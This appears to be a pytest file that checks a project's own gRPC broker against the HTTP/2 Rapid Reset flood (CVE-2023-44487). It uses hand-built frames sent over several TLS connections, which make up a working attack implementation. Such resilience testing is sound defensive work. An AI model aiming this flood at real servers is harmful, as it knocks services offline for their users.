"""PRO-037: streams that are opened and reset at once (CVE-2023-44487) hold nobody up, and cost no memory.

The frames are written by hand (RFC 9113, and RFC 7541 without compression): no client library sends such.
"""

from __future__ import annotations

import ssl
import struct
import threading
import time
from collections.abc import Iterator
from contextlib import ExitStack, suppress

import pytest

from lab.layout import BROKER
from tests.attacks.test_hostile_network import connected
from tests.federation.running import Federation

SQL = "SELECT drug, count(*) FROM seizures GROUP BY drug"
STREAMS = 20_000
CONNECTIONS = 4
GROWTH = 150 << 20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS = 0x0, 0x1, 0x3, 0x4
END_STREAM, END_HEADERS, CANCEL = 0x1, 0x4, struct.pack(">I", 8)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: str, value: str) -> bytes:
    """A header that no table remembers (RFC 7541 section 6.2.2), without Huffman coding."""
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


CALL = b"".join(
    literal(name, value)
    for name, value in [
        (":method", "POST"), (":scheme", "https"), (":path", "/rabita.v1.BrokerService/GetCatalogue"),
        (":authority", "broker"), ("te", "trailers"), ("content-type", "application/grpc"),
    ]
)  # fmt: skip


class Attacker:
    """One TLS connection that speaks HTTP/2 by hand; `sent` streams until the other side hung up."""

    def __init__(self, federation: Federation) -> None:
        context = ssl.create_default_context(cafile=str(federation.layout.trust(BROKER) / "ca.pem"))
        context.check_hostname = False
        context.set_alpn_protocols(["h2"])
        self.socket = context.wrap_socket(connected(federation, BROKER))
        assert self.socket.selected_alpn_protocol() == "h2"
        self.socket.settimeout(5)
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.sent = 0

    def reset(self, streams: int, body: bytes) -> None:
        """Open and reset so many streams, a hundred in each write."""
        with suppress(OSError):
            for first in range(1, 2 * streams, 200):
                burst = b""
                for stream in range(first, first + 200, 2):
                    burst += frame(HEADERS, END_HEADERS, stream, CALL)
                    burst += frame(DATA, END_STREAM, stream, body) if body else b""
                    burst += frame(RST_STREAM, 0, stream, CANCEL)
                self.socket.sendall(burst)
                self.sent += 100

    def drain(self) -> None:
        """Read what comes, as a client does that keeps its connection alive."""
        with suppress(OSError):
            while self.socket.recv(65536):
                pass


@pytest.fixture
def unharmed(small: Federation) -> Iterator[None]:
    """The broker is the same process before and after, has not grown, and answers as before."""
    process = small.party(BROKER).process()
    assert process is not None
    before, threads = process.memory_info().rss, process.num_threads()
    yield
    assert process.is_running()
    assert process.memory_info().rss - before < GROWTH
    assert process.num_threads() < threads + 20
    assert small.query(SQL).status == 0


@pytest.mark.parametrize("body", [b"", b"\x00\x00\x00\x00\x00"], ids=["headers alone", "whole calls"])
def test_streams_that_are_reset_at_once_hold_nobody_up(
    small: Federation, unharmed: None, body: bytes
) -> None:
    with ExitStack() as held:
        attackers = [Attacker(small) for _ in range(CONNECTIONS)]
        work = []
        for attacker in attackers:
            held.enter_context(attacker.socket)
            work.append(threading.Thread(target=attacker.reset, args=(STREAMS, body), daemon=True))
            threading.Thread(target=attacker.drain, daemon=True).start()
        for thread in work:
            thread.start()
        asked = 0
        while asked < 2 or any(thread.is_alive() for thread in work):
            started = time.monotonic()
            assert small.query(SQL).status == 0, "others are answered while it lasts"
            assert time.monotonic() - started < 30
            asked += 1
        for thread in work:
            thread.join(60)
    assert sum(attacker.sent for attacker in attackers) >= 1_000, "the attack was made"


def test_the_frames_are_such_that_an_honest_call_is_answered(small: Federation) -> None:
    """What the attack sends is understood: without the reset, the same call gets an answer of gRPC."""
    attacker = Attacker(small)
    with attacker.socket as connection:
        body = frame(DATA, END_STREAM, 1, b"\x00\x00\x00\x00\x00")
        connection.sendall(frame(HEADERS, END_HEADERS, 1, CALL) + body)
        got = b""
        while b"grpc-status" not in got and b"16" not in got:
            piece = connection.recv(65536)
            assert piece, "the connection ended without an answer"
            got += piece
